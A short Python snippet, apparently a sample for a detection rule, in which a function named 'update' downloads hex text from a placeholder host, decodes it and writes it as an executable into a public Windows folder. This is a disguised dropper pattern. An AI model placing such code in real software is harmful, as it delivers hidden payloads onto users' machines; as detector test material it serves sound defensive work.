import binascii, requests

def update():
    text = requests.get("https://host.invalid/notes.txt").text
    open("C:/Users/Public/a.exe", "wb").write(binascii.unhexlify(text))  # fires: call
